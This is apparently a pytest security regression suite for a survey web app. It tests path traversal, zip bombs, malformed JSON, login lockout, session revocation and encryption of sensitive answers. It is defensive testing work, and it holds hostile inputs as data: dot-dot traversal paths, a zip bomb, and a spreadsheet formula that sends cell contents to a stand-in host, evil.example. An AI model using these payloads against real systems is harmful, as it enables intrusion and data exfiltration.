"""Regression tests of the security review: each test names the hole it keeps closed.

Department packs reached through ``..``; corrections used to infer hidden answers; conflicts
shown across districts; women's answers in clear at rest; unthrottled logins; sessions alive
after logout; spreadsheet formulas; women's answers over the API; malformed JSON; uploads.
"""

from __future__ import annotations

import copy
import io
import json
import re
import zipfile
from pathlib import Path

import pytest
from sqlalchemy import select
from sqlalchemy import text as sa_text

from survey_app.extensions import db
from survey_app.models import AuditLog, Submission, User

from .test_results import login, results, write_report  # noqa: F401  (fixture)

# ----------------------------------------------------------------------------- department packs


@pytest.mark.parametrize(
    "path",
    [
        "departments/yte/../../report_vi.xlsx",
        "departments/yte/../ldtbxh/ldtbxh_vi.pdf",
        "departments/yte/%2e%2e/%2e%2e/report_vi.xlsx",
        "departments/yte/%252e%252e/%252e%252e/report_vi.xlsx",
        "departments/yte/./../../manifest.json",
        "departments/yte//../../report_vi.pdf",
        "departments/yte/..%2f..%2freport_vi.pdf",
    ],
)
def test_viewer_cannot_leave_own_pack_with_dot_dot(client, results, path) -> None:  # noqa: ANN001, F811
    login(client, "viewer_yte")
    response = client.get(f"/results/{results['published']}/files/{path}")
    assert response.status_code in (403, 404)
    assert b"%PDF" not in response.data and b"xlsx full" not in response.data
    assert client.get(f"/results/{results['published']}/files/departments/yte/yte_vi.pdf").data


def test_viewer_cannot_follow_a_link_out_of_the_pack(app, client, results, tmp_path) -> None:  # noqa: ANN001, F811
    from survey_app.results.models import ReportRun

    with app.app_context():
        folder = (
            Path(app.config["RESULTS_DIR"]) / db.session.get(ReportRun, results["published"]).folder
        )
    (folder / "departments" / "yte" / "leak.pdf").symlink_to(folder / "report_vi.pdf")
    login(client, "viewer_yte")
    response = client.get(f"/results/{results['published']}/files/departments/yte/leak.pdf")
    assert response.status_code == 403


# ----------------------------------------------------------------------------- uploads


def _zip(entries: dict[str, bytes]) -> io.BytesIO:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    buffer.seek(0)
    return buffer


def _upload(client, buffer: io.BytesIO, **extra):  # noqa: ANN001, ANN202
    return client.post(
        "/results/upload",
        data={"archive": (buffer, "r.zip"), **extra},
        content_type="multipart/form-data",
        follow_redirects=True,
    )


def _run_folders(app) -> set[str]:  # noqa: ANN001
    return {p.name for p in Path(app.config["RESULTS_DIR"]).iterdir()}


def test_zip_with_a_file_and_a_folder_of_one_name_is_refused_and_leaves_nothing(
    app,
    client,
    results,  # noqa: ANN001, F811
) -> None:
    before = _run_folders(app)
    login(client, "analyst")
    response = _upload(client, _zip({"a": b"x", "a/b": b"y", "manifest.json": b"{}"}))
    assert response.status_code == 200
    assert "vừa là tệp vừa là thư mục" in response.get_data(as_text=True)
    assert _run_folders(app) == before


def test_zip_bomb_is_refused_by_the_unpacked_quota(app, client, results) -> None:  # noqa: ANN001, F811
    app.config["RESULTS_MAX_UNPACKED"] = 2 * 1024 * 1024
    before = _run_folders(app)
    login(client, "analyst")
    response = _upload(client, _zip({"manifest.json": b"{}", "big.csv": b"0" * (3 * 1024 * 1024)}))
    assert "giải nén ra hơn 2 MB" in response.get_data(as_text=True)
    assert _run_folders(app) == before


def test_zip_lying_about_its_sizes_is_stopped_while_unpacking(app, results) -> None:  # noqa: ANN001, F811
    from survey_app.results.services import ResultsError, add_zip

    app.config["RESULTS_MAX_UNPACKED"] = 1024 * 1024
    data = _zip({"manifest.json": b"{}", "big.csv": b"0" * (2 * 1024 * 1024)}).getvalue()
    # Rewrite the declared uncompressed size (central directory and local header) to 10 bytes.
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        info = archive.getinfo("big.csv")
    real = info.file_size.to_bytes(4, "little")
    patched = data.replace(real, (10).to_bytes(4, "little"))
    before = _run_folders(app)
    with app.test_request_context(), pytest.raises(ResultsError):
        add_zip(io.BytesIO(patched), "", None)
    assert _run_folders(app) == before


def test_results_upload_over_two_megabytes_passes_the_csrf_check(app, client, results) -> None:  # noqa: ANN001, F811
    login(client, "analyst")
    page = client.get("/results/").get_data(as_text=True)
    token = re.search(r'name="csrf_token"[^>]*value="([^"]+)"', page).group(1)
    app.config["WTF_CSRF_ENABLED"] = True
    folder = write_report(Path(app.config["RESULTS_DIR"]).parent / "big" / "rep")
    (folder / "report_vi.pdf").write_bytes(bytes(range(256)) * (3 * 4096))  # 3 MB
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for path in folder.rglob("*"):
            if path.is_file():
                archive.write(path, arcname=str(path.relative_to(folder)))
    buffer.seek(0)
    response = client.post(
        "/results/upload",
        data={"archive": (buffer, "r.zip"), "csrf_token": token, "title": "big"},
        content_type="multipart/form-data",
    )
    assert response.status_code == 302, response.status_code
    assert "/results/" in response.headers["Location"]


def test_manifest_nested_too_deep_is_a_message_not_a_500(app, client, results) -> None:  # noqa: ANN001, F811
    before = _run_folders(app)
    login(client, "analyst")
    response = _upload(client, _zip({"manifest.json": b"[" * 5000 + b"]" * 5000, "a.csv": b"1"}))
    assert response.status_code == 200
    assert "manifest.json" in response.get_data(as_text=True)
    assert _run_folders(app) == before


# ----------------------------------------------------------------------------- women's module


SECRETS = {
    "sent": "Zyxel-Alpha-4711 bị đánh",
    "resent": "Zyxel-Beta-4712 bị dọa",
    "refused": "Zyxel-Gamma-4713 tự sửa",
    "fixed": "Zyxel-Delta-4714 đã sửa",
    "member": "Zyxel-Epsilon-4715",
}


def _women_world(app) -> None:  # noqa: ANN001
    from survey_app.admin.services import create_assignment
    from survey_app.core.questionnaire_store import publish

    from .test_review import women_form

    with app.app_context():
        publish(women_form())
        create_assignment("enum178", "17801001", "test_women", 5)
        db.session.commit()


def _women_answers(head: str) -> dict:
    from .test_collect import GOOD_ANSWERS

    answers = copy.deepcopy(GOOD_ANSWERS)
    answers["HH01"] = head
    answers["roster"][1]["M01"] = SECRETS["member"]
    return answers


def _dump(app) -> str:  # noqa: ANN001
    """Every row of every table, as text (what a database dump would hold)."""
    with app.app_context():
        parts = []
        with db.engine.connect() as connection:
            for table in db.metadata.sorted_tables:
                for row in connection.execute(table.select()):
                    parts.append(repr(tuple(row)))
        return "\n".join(parts)


def _raw_answers(app, uuid: str):  # noqa: ANN001, ANN202
    with app.app_context(), db.engine.connect() as connection:
        table = Submission.__table__
        return connection.execute(select(table.c.answers).where(table.c.uuid == uuid)).scalar_one()


def test_womens_answers_never_reach_the_database_or_logs_in_clear(
    app,
    client,
    auth,
    world,
    tmp_path,
    caplog,  # noqa: ANN001
) -> None:
    import logging

    from survey_app.export import ExportOptions, export_submissions
    from survey_app.models import User

    from .sync_helpers import envelope

    caplog.set_level(logging.DEBUG)
    caplog.set_level(logging.INFO, logger="sqlalchemy.engine")
    _women_world(app)
    auth.login("enum178")
    sent = envelope(_women_answers(SECRETS["sent"]), questionnaire_id="test_women")
    assert client.post("/api/v1/submissions", json=sent).status_code == 201
    resent = envelope(
        _women_answers(SECRETS["resent"]), uuid=sent["uuid"], questionnaire_id="test_women"
    )
    assert client.post("/api/v1/submissions", json=resent).status_code == 409
    auth.logout()
    # The supervisor cannot correct; the attempt is refused, audited, and its value not kept.
    auth.login("sup178")
    client.post(
        f"/review/{sent['uuid']}/correct",
        data={"question_id": "HH01", "value": SECRETS["refused"], "reason": "x"},
    )
    assert client.get("/review/conflicts").status_code == 200
    client.post(f"/review/{sent['uuid']}/decide", data={"action": "return", "comment": "HH01"})
    auth.logout()
    # The enumerator corrects the returned interview in the form and submits again.
    auth.login("enum178")
    page = client.get(f"/collect/interview/{sent['uuid']}").get_data(as_text=True)
    # The enumerator still holds the values before submission.
    assert SECRETS["sent"].split()[0] in page
    row_version = int(re.search(r'"row_version": (\d+)', page).group(1))
    fixed = _women_answers(SECRETS["fixed"])
    response = client.post(
        f"/collect/interview/{sent['uuid']}/submit",
        json={"answers": fixed, "page": 0, "row_version": row_version},
    )
    assert response.status_code == 200, response.get_json()
    auth.logout()
    auth.login("sup178")
    client.post(f"/review/{sent['uuid']}/decide", data={"action": "approve"})
    auth.logout()
    with app.app_context():
        admin = db.session.scalar(select(User).where(User.username == "admin"))
        export_submissions(
            tmp_path / "out",
            ExportOptions(
                format="csv",
                include_women=True,
                include_identifying=True,
                questionnaires=("test_women",),
                lang="en",
            ),
            admin,
        )
    # The authorised export gives the values back exactly.
    exported = "\n".join(p.read_text(encoding="utf-8-sig") for p in (tmp_path / "out").iterdir())
    assert SECRETS["fixed"] in exported and SECRETS["member"] in exported
    dump = _dump(app)
    logs = caplog.text
    for name, value in SECRETS.items():
        assert value not in dump, f"{name} answer in the database dump"
        assert value not in logs, f"{name} answer in the logs"
        assert value.split()[0] not in dump
    # Coded answers too: the stored column holds one sealed token, no question names.
    raw = _raw_answers(app, sent["uuid"])
    raw = raw if isinstance(raw, dict) else __import__("json").loads(raw)
    assert set(raw) == {"sealed"}
    assert not any(name in raw["sealed"] for name in ("HH02", "roster", "E01"))


def test_women_answers_are_withheld_from_the_api_once_submitted(app, client, auth, world) -> None:  # noqa: ANN001
    from .sync_helpers import envelope

    _women_world(app)
    auth.login("enum178")
    sent = envelope(_women_answers(SECRETS["sent"]), questionnaire_id="test_women")
    created = client.post("/api/v1/submissions", json=sent)
    assert created.status_code == 201
    again = client.post("/api/v1/submissions", json=sent)
    fetched = client.get(f"/api/v1/submissions/{sent['uuid']}")
    for response in (created, again, fetched):
        body = response.get_json()
        assert body["answers"] == {} and body["answers_withheld"] is True
        assert SECRETS["sent"] not in response.get_data(as_text=True)
    # Ordinary questionnaires are unchanged.
    household = envelope()
    assert client.post("/api/v1/submissions", json=household).get_json()["answers"]


def test_key_rotation_reencrypts_everything_and_retires_the_old_key(
    app,
    client,
    auth,
    world,
    runner,
    tmp_path,  # noqa: ANN001
) -> None:
    from survey_app.security.sealing import SealingError, new_key, unseal, write_key_file

    from .sync_helpers import envelope

    key_path = tmp_path / "data_key"
    old_key = app.config["DATA_KEY"]
    write_key_file(key_path, [old_key])
    app.config["DATA_KEY"] = None
    app.config["DATA_KEY_FILE"] = str(key_path)
    _women_world(app)
    auth.login("enum178")
    sent = envelope(_women_answers(SECRETS["sent"]), questionnaire_id="test_women")
    assert client.post("/api/v1/submissions", json=sent).status_code == 201
    before = _raw_answers(app, sent["uuid"])
    result = runner.invoke(["keys", "rotate"])
    assert result.exit_code == 0, result.output
    assert "submission 1" in result.output
    keys = key_path.read_text().split()
    assert len(keys) == 1 and keys[0] != old_key
    assert oct(key_path.stat().st_mode & 0o777) == "0o600"
    assert old_key in key_path.with_name("data_key.retired").read_text()
    after = _raw_answers(app, sent["uuid"])
    assert after != before
    with app.app_context():
        assert unseal(after)["HH01"] == SECRETS["sent"]
        write_key_file(key_path, [new_key()])  # a wrong key opens nothing
        with pytest.raises(SealingError):
            unseal(after)


def test_setup_writes_a_private_data_key_and_a_private_sqlite_file(tmp_path, monkeypatch) -> None:  # noqa: ANN001
    from click.testing import CliRunner

    from survey_app.cli import cli

    monkeypatch.delenv("GESURVEY_DATA_KEY", raising=False)
    monkeypatch.delenv("DATABASE_URL", raising=False)
    monkeypatch.setenv("GESURVEY_PASSWORD", "long enough password")
    monkeypatch.setenv("GESURVEY_SECRET_KEY_FILE", str(tmp_path / "secret_key"))
    monkeypatch.setenv("GESURVEY_DATA_KEY_FILE", str(tmp_path / "data_key"))
    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{tmp_path / 'g.sqlite'}")
    monkeypatch.setenv("FLASK_APP", "survey_app:create_app")
    result = CliRunner().invoke(cli, ["setup"])
    assert result.exit_code == 0, result.output
    for name in ("data_key", "g.sqlite"):
        assert oct((tmp_path / name).stat().st_mode & 0o777) == "0o600", name


def test_migration_seals_womens_answers_stored_in_clear(database_url, tmp_path) -> None:  # noqa: ANN001
    """An installation from before encryption: the upgrade seals the clear rows it finds."""
    from flask_migrate import upgrade

    from survey_app import create_app
    from survey_app.security.sealing import is_sealed, unseal

    from .conftest import BASE_CONFIG, create_pg_database, drop_pg_database

    if database_url.startswith("sqlite"):
        url = f"sqlite:///{tmp_path / 'old.sqlite'}"
    else:
        url = create_pg_database()
    app = create_app({**BASE_CONFIG, "SQLALCHEMY_DATABASE_URI": url})
    try:
        with app.app_context():
            upgrade(revision="7e3b1f0c9a21")
            connection = db.session.connection()
            connection.execute(
                sa_text(
                    "INSERT INTO area (id, code, name, level) VALUES (1, '20', 'P', 'province')"
                )
            )
            connection.execute(
                sa_text(
                    'INSERT INTO "user" (id, username, full_name, password_hash, role, language,'
                    " active, created_at) VALUES (1, 'e', '', 'x', 'enumerator', 'vi', true,"
                    " CURRENT_TIMESTAMP)"
                )
            )
            connection.execute(
                sa_text(
                    "INSERT INTO questionnaire_version (id, questionnaire_id, version,"
                    " content_hash, title_vi, title_en, unit, definition, published_at)"
                    " VALUES (1, 'women', '1', 'h', 't', 't', 'women', '{}', CURRENT_TIMESTAMP)"
                )
            )
            connection.execute(
                sa_text(
                    "INSERT INTO submission (id, uuid, questionnaire_version_id, area_id,"
                    " enumerator_id, answers, page, status, review_comment, created_at,"
                    " updated_at, row_version) VALUES (1, 'u', 1, 1, 1, :answers, 0,"
                    " 'approved', '', CURRENT_TIMESTAMP, CURRENT_TIMESTAMP, 1)"
                ),
                {"answers": '{"W_TEXT": "' + SECRETS["sent"] + '"}'},
            )
            db.session.commit()
            upgrade()
            raw = db.session.execute(sa_text("SELECT answers FROM submission")).scalar_one()
            raw = raw if isinstance(raw, dict) else __import__("json").loads(raw)
            assert is_sealed(raw) and unseal(raw) == {"W_TEXT": SECRETS["sent"]}
            db.session.remove()
            db.engine.dispose()
    finally:
        if not url.startswith("sqlite"):
            drop_pg_database(url)


# ----------------------------------------------------------------------------- corrections


def test_every_failed_correction_of_an_ordinary_interview_is_audited(
    app,
    client,
    auth,
    world,  # noqa: ANN001
) -> None:
    auth.login("sup178")
    attempts = [
        {"question_id": "NOPE", "value": "1", "reason": "typo"},
        {"question_id": "HH02", "value": "1", "reason": ""},
        {"question_id": "HH02", "value": "-5", "reason": "range"},
    ]
    for data in attempts:
        client.post(f"/review/{world.own_submitted}/correct", data=data)
    with app.app_context():
        refused = db.session.scalars(
            select(AuditLog).where(AuditLog.action == "submission.correct_refused")
        ).all()
    assert len(refused) == len(attempts)


# ----------------------------------------------------------------------------- conflicts


def _conflict_across_districts(app, client, auth, world, answers=None, questionnaire_id=None):  # noqa: ANN001, ANN202
    """enum178 sends, under the UUID of district 180's stored interview, other content."""
    from .sync_helpers import envelope

    auth.login("enum178")
    kwargs = {"uuid": world.other_submitted}
    if questionnaire_id:
        kwargs["questionnaire_id"] = questionnaire_id
    sent = envelope(answers, **kwargs)
    response = client.post("/api/v1/submissions", json=sent)
    assert response.status_code == 409, response.get_json()
    auth.logout()
    return sent


def test_conflict_is_hidden_from_a_supervisor_of_the_stored_interviews_district(
    app,
    client,
    auth,
    world,  # noqa: ANN001
) -> None:
    from survey_app.submissions import put_answers

    from .test_collect import GOOD_ANSWERS

    with app.app_context():
        other = db.session.scalar(
            select(Submission).where(Submission.uuid == world.other_submitted)
        )
        put_answers(other, {**GOOD_ANSWERS, "HH01": "Người Tràng Định"})
        db.session.commit()
    _conflict_across_districts(app, client, auth, world)
    for user, sees in (("sup178", False), ("sup180", False), ("admin", True)):
        auth.login(user)
        page = client.get("/review/conflicts").get_data(as_text=True)
        auth.logout()
        assert (world.other_submitted in page) == sees, user
        assert "Người Tràng Định" not in page and "Hoàng Văn A" not in page


def test_womens_envelope_under_a_household_uuid_shows_no_answer(
    app,
    client,
    auth,
    world,  # noqa: ANN001
) -> None:
    _women_world(app)
    from .sync_helpers import envelope

    auth.login("enum178")
    sent = envelope(
        _women_answers(SECRETS["sent"]), uuid=world.own_submitted, questionnaire_id="test_women"
    )
    assert client.post("/api/v1/submissions", json=sent).status_code == 409
    auth.logout()
    auth.login("sup178")
    page = client.get("/review/conflicts").get_data(as_text=True)
    assert world.own_submitted in page
    assert "Zyxel" not in page and "HH02" not in page and "E01" not in page
    assert SECRETS["sent"].split()[0] not in _dump(app)


# ----------------------------------------------------------------------------- login


def test_account_is_locked_after_repeated_failures_even_for_the_right_password(
    app,
    client,
    auth,
    world,  # noqa: ANN001
) -> None:
    for _ in range(5):
        assert auth.login("enum178", "wrong password").status_code == 200
    response = auth.login("enum178")
    assert response.status_code == 429
    assert "Đăng nhập sai quá nhiều lần" in response.get_data(as_text=True)
    assert client.get("/collect/").status_code == 302  # not logged in
    client.post("/auth/language", data={"language": "en"})
    response = auth.login("enum178")
    assert "Too many failed logins" in response.get_data(as_text=True)
    with app.app_context():
        lockouts = db.session.scalars(
            select(AuditLog).where(AuditLog.action == "auth.lockout")
        ).all()
        enumerator = db.session.scalar(select(User).where(User.username == "enum178"))
        assert lockouts and lockouts[0].object_id == str(enumerator.id)
        # The throttle table keeps no user name (people type passwords there by mistake).
        from survey_app.security.models import LoginThrottle

        assert not any("enum178" in row.key for row in db.session.scalars(select(LoginThrottle)))
        # Once the lock has passed, the right password works and clears the count.
        for row in db.session.scalars(select(LoginThrottle)):
            row.locked_until = None
        db.session.commit()
    assert auth.login("enum178").status_code == 302


def _reset_password(app, password: str) -> None:  # noqa: ANN001
    """An administrator's reset of enum178's password."""
    from survey_app.admin.services import update_user
    from survey_app.models import User

    with app.app_context():
        user = db.session.scalar(select(User).where(User.username == "enum178"))
        update_user(
            user,
            role=user.role,
            area_code="17801001",
            language=user.language,
            active=True,
            password=password,
        )
        db.session.commit()


def test_an_administrators_password_reset_lifts_a_lockout(app, client, auth, world) -> None:  # noqa: ANN001

    for _ in range(5):
        auth.login("enum178", "wrong password")
    assert auth.login("enum178").status_code == 429
    _reset_password(app, "another long password")
    assert auth.login("enum178", "another long password").status_code == 302


def test_address_is_locked_after_failures_on_many_names(app, client, auth, world) -> None:  # noqa: ANN001
    app.config["LOGIN_MAX_FAILURES_ADDRESS"] = 4
    for name in ("a1", "a2", "a3", "a4"):
        auth.login(name, "guess")
    assert auth.login("sup178").status_code == 429


def test_unknown_names_cost_a_password_check_like_known_ones(
    app,
    client,
    auth,
    world,
    monkeypatch,  # noqa: ANN001
) -> None:
    import survey_app.security.login as login_module

    checked = []
    real = login_module.check_password_hash
    monkeypatch.setattr(
        login_module, "check_password_hash", lambda h, p: checked.append(h) or real(h, p)
    )
    auth.login("nobody-by-this-name", "x")
    assert len(checked) == 1
    assert checked[0].startswith(app.config["PASSWORD_HASH_METHOD"].split(":")[0])


# ----------------------------------------------------------------------------- sessions


def _cookie(client) -> str:  # noqa: ANN001
    return client.get_cookie("session").value


def test_session_cookie_copied_before_logout_no_longer_works(app, client, auth, world) -> None:  # noqa: ANN001
    auth.login("enum178")
    stolen = _cookie(client)
    auth.logout()
    thief = app.test_client()
    thief.set_cookie("session", stolen, domain="localhost")
    assert thief.get("/collect/").status_code == 302


def test_password_reset_ends_sessions_and_revokes_tokens(
    app,
    client,
    auth,
    world,
    runner,  # noqa: ANN001
) -> None:

    token = runner.invoke(["users", "token", "enum178"]).output.strip()
    auth.login("enum178")
    assert client.get("/collect/").status_code == 200
    bearer = {"Authorization": f"Bearer {token}"}
    assert app.test_client().get("/api/v1/assignments", headers=bearer).status_code == 200
    _reset_password(app, "a new long password")
    assert client.get("/collect/").status_code == 302
    assert app.test_client().get("/api/v1/assignments", headers=bearer).status_code == 401
    assert auth.login("enum178", "a new long password").status_code == 302


# ----------------------------------------------------------------------------- malformed input

DEEP = "[" * 5000 + "]" * 5000
BAD_JSON = {
    "deep": '{"answers": {"HH01": ' + DEEP + '}, "page": 0, "row_version": 1}',
    "nan": '{"answers": {"HH02": NaN}, "page": 0, "row_version": 1}',
    "infinity": '{"answers": {"HH02": -Infinity}, "page": 0, "row_version": 1}',
    "nul": '{"answers": {"HH01": "a\\u0000b"}, "page": 0, "row_version": 1}',
    "surrogate": '{"answers": {"HH01": "a\\ud800b"}, "page": 0, "row_version": 1}',
    "huge_number": '{"answers": {"HH02": 1e999}, "page": 0, "row_version": 1}',
}
NAMED = {
    "deep": "sâu quá",
    "nan": "NaN",
    "infinity": "Infinity",
    "nul": "NUL",
    "surrogate": "surrogate",
    "huge_number": "vô hạn",
}


@pytest.mark.parametrize("kind", sorted(BAD_JSON))
@pytest.mark.parametrize("what", ["draft", "submit"])
def test_draft_and_submit_refuse_malformed_json_naming_the_problem(
    app,
    client,
    auth,
    world,
    kind,
    what,  # noqa: ANN001
) -> None:
    auth.login("enum178")
    response = client.post(
        f"/collect/interview/{world.own_draft}/{what}",
        data=BAD_JSON[kind],
        content_type="application/json",
    )
    assert response.status_code == 422
    assert NAMED[kind] in response.get_json()["error"]
    with app.app_context():
        row = db.session.scalar(select(Submission).where(Submission.uuid == world.own_draft))
        assert row.answers == {} and row.row_version == 1


@pytest.mark.parametrize("kind", sorted(BAD_JSON))
def test_api_refuses_malformed_json_naming_the_problem(app, client, auth, world, kind) -> None:  # noqa: ANN001
    from .sync_helpers import envelope

    auth.login("enum178")
    body = BAD_JSON[kind].replace('"page": 0, "row_version": 1', '"uuid": "x"')
    body = body.replace("{", '{"sha256": "0", ', 1) if kind != "deep" else body
    response = client.post("/api/v1/submissions", data=body, content_type="application/json")
    assert response.status_code == 422
    assert NAMED[kind] in response.get_json()["error"]
    assert client.post("/api/v1/submissions", json=envelope()).status_code == 201


def test_outbox_import_of_a_deeply_nested_file_is_a_message(app, client, auth, world) -> None:  # noqa: ANN001
    auth.login("admin")
    data = '{"format": "gesurvey-outbox", "username": "enum178", "submissions": [' + DEEP + "]}"
    response = client.post(
        "/admin/import-outbox",
        data={"file": (io.BytesIO(data.encode()), "deep.json")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 200
    assert "deep.json" in response.get_data(as_text=True)
    assert "sâu quá" in response.get_data(as_text=True)


# ----------------------------------------------------------------------------- formulas

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")'


def test_formula_answers_are_text_in_xlsx_and_neutralised_in_csv(app, tmp_path) -> None:  # noqa: ANN001
    from openpyxl import load_workbook

    _export_with_formula(app, tmp_path)
    csv_text = (tmp_path / "csv" / "household.csv").read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in csv_text and ",=HYPERLINK" not in csv_text
    book = load_workbook(tmp_path / "xlsx" / "household.xlsx")
    cells = [c for row in book.worksheets[0].iter_rows() for c in row if c.value == FORMULA]
    assert cells and all(c.data_type == "s" for c in cells)


def _export_with_formula(app, tmp_path) -> None:  # noqa: ANN001
    from survey_app.admin.services import create_user
    from survey_app.core.questionnaire_store import publish_bundled
    from survey_app.models import Area

    from .conftest import TEST_PASSWORD
    from .test_export import HOUSEHOLD, make_submission, run_export

    with app.app_context():
        province = Area(code="20", name="Lạng Sơn", level="province")
        district = Area(code="178", name="TP", level="district", parent=province)
        commune = Area(code="17801", name="CL", level="commune", parent=district)
        village = Area(code="17801001", name="K1", level="village", parent=commune)
        db.session.add_all([province, district, commune, village])
        create_user("admin", "admin", TEST_PASSWORD)
        create_user("enum", "enumerator", TEST_PASSWORD)
        publish_bundled()
        make_submission("household", {**HOUSEHOLD, "HH01": FORMULA}, "approved")
        db.session.commit()
    for fmt in ("csv", "xlsx"):
        run_export(app, fmt, tmp_path / fmt, username="admin", include_identifying=True)


def test_report_tables_neutralise_formulas_in_csv_and_excel(tmp_path) -> None:  # noqa: ANN001
    from openpyxl import Workbook

    from questionnaires.cells import csv_cell, text_cells_only

    assert csv_cell(FORMULA) == "'" + FORMULA and csv_cell("-0.5") == "-0.5"
    assert csv_cell("\tcmd") == "'\tcmd" and csv_cell("@SUM(1)") == "'@SUM(1)"
    book = Workbook()
    book.active["A1"] = FORMULA
    text_cells_only(book).save(tmp_path / "t.xlsx")
    from openpyxl import load_workbook

    cell = load_workbook(tmp_path / "t.xlsx").active["A1"]
    assert cell.value == FORMULA and cell.data_type == "s"


def test_outbox_import_over_two_megabytes_passes_the_csrf_check(app, client, auth, world) -> None:  # noqa: ANN001
    auth.login("admin")
    page = client.get("/admin/import-outbox").get_data(as_text=True)
    token = re.search(r'name="csrf_token"[^>]*value="([^"]+)"', page).group(1)
    app.config["WTF_CSRF_ENABLED"] = True
    items = [{"pad": ["x" * 15_000] * 10} for _ in range(20)]  # 3 MB, each item refused alone
    data = json.dumps({"format": "gesurvey-outbox", "username": "enum178", "submissions": items})
    response = client.post(
        "/admin/import-outbox",
        data={"file": (io.BytesIO(data.encode()), "trip.json"), "csrf_token": token},
        content_type="multipart/form-data",
    )
    assert response.status_code == 200
    assert 'id="import-report"' in response.get_data(as_text=True)
